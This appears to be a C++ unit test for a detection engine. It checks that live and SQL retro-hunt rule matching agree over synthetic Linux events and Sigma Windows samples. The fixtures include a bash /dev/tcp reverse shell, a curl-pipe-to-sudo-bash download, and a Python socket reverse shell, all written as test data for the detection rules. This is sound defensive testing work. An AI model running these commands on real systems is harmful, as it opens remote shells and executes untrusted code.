@@ -1,0 +1,309 @@
+// Live against retro-hunt: the same rules give the same matches through the live engine (events
+// fed one by one in time order) and through the SQL path over a real store holding those events
+// (hunt::Run). Covers the built-in Linux pack and sequences (by, maxspan, until) over a synthetic
+// host timeline, and every SigmaHQ Windows process_creation rule over the Sigma regression
+// samples.
+#include <gtest/gtest.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <fstream>
+#include <map>
+#include <set>
+#include <sstream>
+
+#include "common/event_json.hpp"
+#include "detect/detector.hpp"
+#include "detect/engine.hpp"
+#include "hunt/hunt.hpp"
+#include "hunt/windows_mapping.hpp"
+#include "server/store/store.hpp"
+
+namespace fs = std::filesystem;
+using namespace vigil;
+using nlohmann::json;
+
+namespace {
+
+constexpr std::int64_t kSecond = 1'000'000'000;
+constexpr std::int64_t kT0 = 1'760'000'000 * kSecond;
+
+std::string ReadFile(const fs::path& p) {
+  std::ifstream in(p, std::ios::binary);
+  std::stringstream s;
+  s << in.rdbuf();
+  return s.str();
+}
+
+// Each event gets a unique event.sequence: the identity both paths report.
+using Match = std::vector<std::int64_t>;
+
+class LiveRetro : public testing::Test {
+ protected:
+  void Load(std::vector<v1::Event> events) {
+    db_ = fs::path(testing::TempDir()) /
+          ("live_retro_" + std::to_string(::getpid()) + "_" +
+           testing::UnitTest::GetInstance()->current_test_info()->name());
+    fs::remove_all(db_);
+    fs::create_directories(db_);
+    db_ /= "vigil.db";
+    for (std::size_t i = 0; i < events.size(); ++i)
+      events[i].set_event_sequence(static_cast<std::int64_t>(i + 1));
+    std::ranges::stable_sort(events, {}, [](const v1::Event& e) { return e.timestamp(); });
+    auto store = store::OpenSqliteStore({db_, false});
+    ASSERT_TRUE(store) << store.error().message;
+    std::vector<store::IngestBatch> batch(1);
+    batch[0].events = events;
+    ASSERT_TRUE((*store)->Append(batch));
+    events_ = std::move(events);
+  }
+
+  // Live: every rule on every event, in time order, without suppression.
+  std::map<std::string, std::set<Match>> Live(std::vector<detect::LiveRule> rules,
+                                              bool prefilter = true) {
+    detect::Engine engine({.max_partials_per_rule = 100'000, .prefilter = prefilter});
+    engine.SetRules(std::move(rules));
+    std::map<std::string, std::set<Match>> out;
+    std::vector<detect::EngineMatch> matches;
+    for (const auto& e : events_) {
+      matches.clear();
+      engine.Evaluate(e, matches);
+      for (const auto& m : matches) {
+        Match ids;
+        for (const auto& ev : m.events) ids.push_back(ev.event_sequence());
+        out[m.rule->id].insert(ids);
+      }
+    }
+    skipped_ = engine.counters().prefilter_skipped;
+    return out;
+  }
+
+  // The SQL path's matches; nullopt (and retro_error_) when SQLite cannot run the query.
+  std::optional<std::set<Match>> Retro(const hunt::Query& query) {
+    std::set<Match> out;
+    hunt::HuntOptions options;
+    options.limit = 1'000'000;
+    auto id = [](const nlohmann::ordered_json& e) {
+      return e.at("event.sequence").get<std::int64_t>();
+    };
+    auto r = hunt::Run(db_, query, options, [&](const nlohmann::ordered_json& row) {
+      Match ids;
+      if (row.contains("sequence"))
+        for (const auto& e : row["sequence"]) ids.push_back(id(e));
+      else
+        ids.push_back(id(row));
+      out.insert(ids);
+      return true;
+    });
+    if (!r) {
+      retro_error_ = r.error().message;
+      return std::nullopt;
+    }
+    return out;
+  }
+
+  fs::path db_;
+  std::vector<v1::Event> events_;
+  std::uint64_t skipped_ = 0;
+  std::string retro_error_;
+};
+
+v1::Event Ev(const json& j) {
+  auto e = EventFromJson(j);
+  EXPECT_TRUE(e) << (e ? "" : e.error().message) << j.dump();
+  return e ? *e : v1::Event{};
+}
+
+json Proc(std::int64_t t, const std::string& entity, const std::string& name,
+          const std::string& exe, const std::string& cmd, const std::string& parent = "bash") {
+  return {{"@timestamp", kT0 + t * kSecond},
+          {"event.category", "process"},
+          {"event.type", "start"},
+          {"event.action", "exec"},
+          {"host.id", "h1"},
+          {"host.name", "h1"},
+          {"process.entity_id", entity},
+          {"process.pid", 100 + t},
+          {"process.name", name},
+          {"process.executable", exe},
+          {"process.command_line", cmd},
+          {"process.parent.name", parent}};
+}
+
+json Net(std::int64_t t, const std::string& entity, const std::string& name, int port) {
+  return {{"@timestamp", kT0 + t * kSecond},
+          {"event.category", "network"},
+          {"event.type", "start"},
+          {"event.action", "connect"},
+          {"host.id", "h1"},
+          {"host.name", "h1"},
+          {"process.entity_id", entity},
+          {"process.name", name},
+          {"destination.ip", "10.1.2.3"},
+          {"destination.port", port}};
+}
+
+json Persist(std::int64_t t, const std::string& entity, const std::string& mechanism,
+             const std::string& path, const std::string& action = "create") {
+  return {{"@timestamp", kT0 + t * kSecond},
+          {"event.category", "persistence"},
+          {"event.type", action == "inventory" ? "info" : "creation"},
+          {"event.action", action},
+          {"host.id", "h1"},
+          {"host.name", "h1"},
+          {"process.entity_id", entity},
+          {"vigil.persistence.mechanism", mechanism},
+          {"file.path", path}};
+}
+
+}  // namespace
+
+TEST_F(LiveRetro, LinuxPackAndSequencesGiveTheSameMatches) {
+  std::vector<v1::Event> events;
+  int t = 0;
+  for (int round = 0; round < 3; ++round) {
+    const std::string r = std::to_string(round);
+    events.push_back(Ev(Proc(t++, "sh" + r, "bash", "/usr/bin/bash",
+                             "bash -c bash -i >& /dev/tcp/10.1.2.3/4444 0>&1")));
+    events.push_back(Ev(Net(t++, "sh" + r, "bash", 4444)));
+    events.push_back(
+        Ev(Proc(t++, "dl" + r, "sh", "/usr/bin/sh", "sh -c curl -fsSL http://x/i.sh | sudo bash")));
+    events.push_back(
+        Ev(Proc(t++, "ok" + r, "sh", "/usr/bin/sh", "sh -c curl -o out http://x/i.sh")));
+    events.push_back(Ev(Proc(t++, "tmp" + r, "payload", "/tmp/payload", "/tmp/payload")));
+    events.push_back(Ev(Proc(t++, "shm" + r, "x", "/dev/shm/.x", "/dev/shm/.x -d")));
+    events.push_back(Ev(Proc(t++, "usr" + r, "ls", "/usr/bin/ls", "ls /tmp")));
+    events.push_back(Ev(Persist(t++, "cr" + r, "cron", "/etc/cron.d/job")));
+    events.push_back(Ev(Persist(t++, "cr" + r, "cron", "/etc/cron.d/old", "inventory")));
+    events.push_back(Ev(Persist(t++, "sd" + r, "systemd", "/etc/systemd/system/x.service")));
+    events.push_back(Ev(Persist(t++, "rc" + r, "rc", "/etc/rc.local")));
+    events.push_back(Ev(Persist(t++, "pr" + r, "profile", "/root/.bashrc")));
+    events.push_back(Ev(Persist(t++, "ld" + r, "ld_preload", "/etc/ld.so.preload")));
+    events.push_back(Ev(Persist(t++, "ak" + r, "authorized_keys", "/root/.ssh/authorized_keys")));
+    events.push_back(Ev(Persist(t++, "km" + r, "kernel_module", "/x.ko", "module_load")));
+    events.push_back(Ev(Proc(t++, "fs" + r, "sh", "/usr/bin/sh", "/bin/sh -c id", "find")));
+    auto find = Proc(t++, "fi" + r, "find", "/usr/bin/find", "find . -exec /bin/sh -c id ;");
+    find["process.args"] = {"find", ".", "-exec", "/bin/sh", "-c", "id", ";"};
+    events.push_back(Ev(find));
+    events.push_back(Ev(Proc(t++, "py" + r, "python3.11", "/usr/bin/python3.11",
+                             "python3 -c import socket,os;s=socket.socket();s.connect(('h',1));"
+                             "os.dup2(s.fileno(),0);os.system('/bin/sh')")));
+    // For the sequences: shell, then a connection by the same process, sometimes too late, and
+    // sometimes ended by an exit (until).
+    events.push_back(Ev(Proc(t++, "q" + r, "bash", "/usr/bin/bash", "bash")));
+    if (round == 1) t += 120;
+    if (round == 2) {
+      auto exit = Proc(t++, "q" + r, "bash", "/usr/bin/bash", "bash");
+      exit["event.action"] = "exit";
+      events.push_back(Ev(exit));
+    }
+    events.push_back(Ev(Net(t++, "q" + r, "bash", 443)));
+  }
+  Load(std::move(events));
+
+  std::vector<detect::LiveRule> rules;
+  std::map<std::string, std::shared_ptr<const hunt::Query>> queries;
+  auto add = [&](std::string_view source, std::string_view id) {
+    auto spec = detect::ParseRule(source, detect::RuleKind::Eql, id);
+    ASSERT_TRUE(spec) << id << ": " << spec.error().message;
+    auto live = detect::CompileLive(*spec);
+    ASSERT_TRUE(live) << id << ": " << live.error().message;
+    queries[spec->id] = spec->query;
+    rules.push_back(std::move(*live));
+  };
+  for (const auto& b : detect::BuiltinRules()) add(b.source, b.file);
+  add(R"(sequence by process.entity_id with maxspan=1m
+           [process where process.name == "bash"] [network where true])",
+      "seq-maxspan");
+  add(R"(sequence by process.entity_id
+           [process where event.action == "exec" and process.name == "bash"]
+           [network where destination.port > 0]
+         until [process where event.action == "exit"])",
+      "seq-until");
+  add(R"(sequence by host.id [persistence where true] [persistence where true]
+           [process where process.name : "python*"])",
+      "seq-three-steps");
+
+  auto live = Live(std::move(rules));
+  std::size_t total = 0;
+  for (const auto& [id, query] : queries) {
+    auto retro = Retro(*query);
+    ASSERT_TRUE(retro) << id << ": " << retro_error_;
+    EXPECT_EQ(live[id], *retro) << id;
+    total += retro->size();
+    // Every rule of the pack fires on this timeline (kernel module loads too).
+    EXPECT_FALSE(retro->empty()) << id << " never fired";
+  }
+  // Which rounds' "q" processes (shell, later a connection) completed the sequences.
+  auto rounds = [&](const std::set<Match>& matches) {
+    std::set<int> out;
+    for (const auto& m : matches)
+      for (const auto& e : events_)
+        if (e.event_sequence() == m.front() && e.process_entity_id().starts_with("q"))
+          out.insert(e.process_entity_id()[1] - '0');
+    return out;
+  };
+  EXPECT_EQ(rounds(live["seq-maxspan"]), (std::set<int>{0, 2}));  // round 1: too late
+  EXPECT_EQ(rounds(live["seq-until"]), (std::set<int>{0, 1}));    // round 2: exited first
+  std::cout << queries.size() << " rules, " << total << " matches, live == retro\n";
+}
+
+TEST_F(LiveRetro, SigmaProcessCreationRulesOverTheRegressionSamples) {
+  const fs::path corpus = VIGIL_SIGMA_CORPUS;
+  if (!fs::exists(corpus / "regression")) GTEST_SKIP() << "no Sigma corpus at " << corpus;
+  std::vector<v1::Event> events;
+  for (const auto& f : fs::recursive_directory_iterator(corpus / "regression")) {
+    if (f.path().extension() != ".json") continue;
+    auto records = hunt::ParseWindowsRecords(ReadFile(f.path()));
+    if (!records) continue;
+    for (const auto& rec : *records)
+      if (auto e = hunt::MapWindowsEvent(rec)) events.push_back(std::move(*e));
+  }
+  ASSERT_GT(events.size(), 100u);
+  Load(std::move(events));
+
+  std::vector<detect::LiveRule> rules, unfiltered;
+  std::map<std::string, std::shared_ptr<const hunt::Query>> queries;
+  std::size_t unsupported = 0;
+  for (const auto& f :
+       fs::recursive_directory_iterator(corpus / "rules/windows/process_creation")) {
+    if (f.path().extension() != ".yml") continue;
+    auto spec =
+        detect::ParseRule(ReadFile(f.path()), detect::RuleKind::Sigma, f.path().stem().string());
+    if (!spec) {
+      ++unsupported;
+      continue;
+    }
+    auto live = detect::CompileLive(*spec);
+    ASSERT_TRUE(live) << f.path() << ": " << live.error().message;
+    if (queries.contains(spec->id)) continue;
+    queries[spec->id] = spec->query;
+    rules.push_back(std::move(*live));
+    unfiltered.push_back(std::move(*detect::CompileLive(*spec)));
+  }
+  ASSERT_GT(rules.size(), 1000u);
+  // The prefilter changes nothing but the work done.
+  auto without = Live(std::move(unfiltered), /*prefilter=*/false);
+  EXPECT_EQ(skipped_, 0u);
+  auto live = Live(std::move(rules));
+  EXPECT_GT(skipped_, 0u);
+  EXPECT_EQ(live, without);
+  std::size_t fired = 0, matches = 0;
+  std::vector<std::string> sql_failed;
+  for (const auto& [id, query] : queries) {
+    auto retro = Retro(*query);
+    if (!retro) {  // a limit of the SQL path (SQLite's expression depth), not of live matching
+      sql_failed.push_back(id + ": " + retro_error_);
+      continue;
+    }
+    EXPECT_EQ(live[id], *retro) << id;
+    fired += !retro->empty();
+    matches += retro->size();
+  }
+  std::cout << queries.size() << " Sigma rules (" << unsupported << " not supported), " << fired
+            << " fire, " << matches << " matches, live == retro; the SQL path cannot run "
+            << sql_failed.size() << ":\n";
+  for (const auto& f : sql_failed) std::cout << "  " << f << "\n";
+  EXPECT_LE(sql_failed.size(), 2u);
+  EXPECT_GT(fired, 20u);
+}
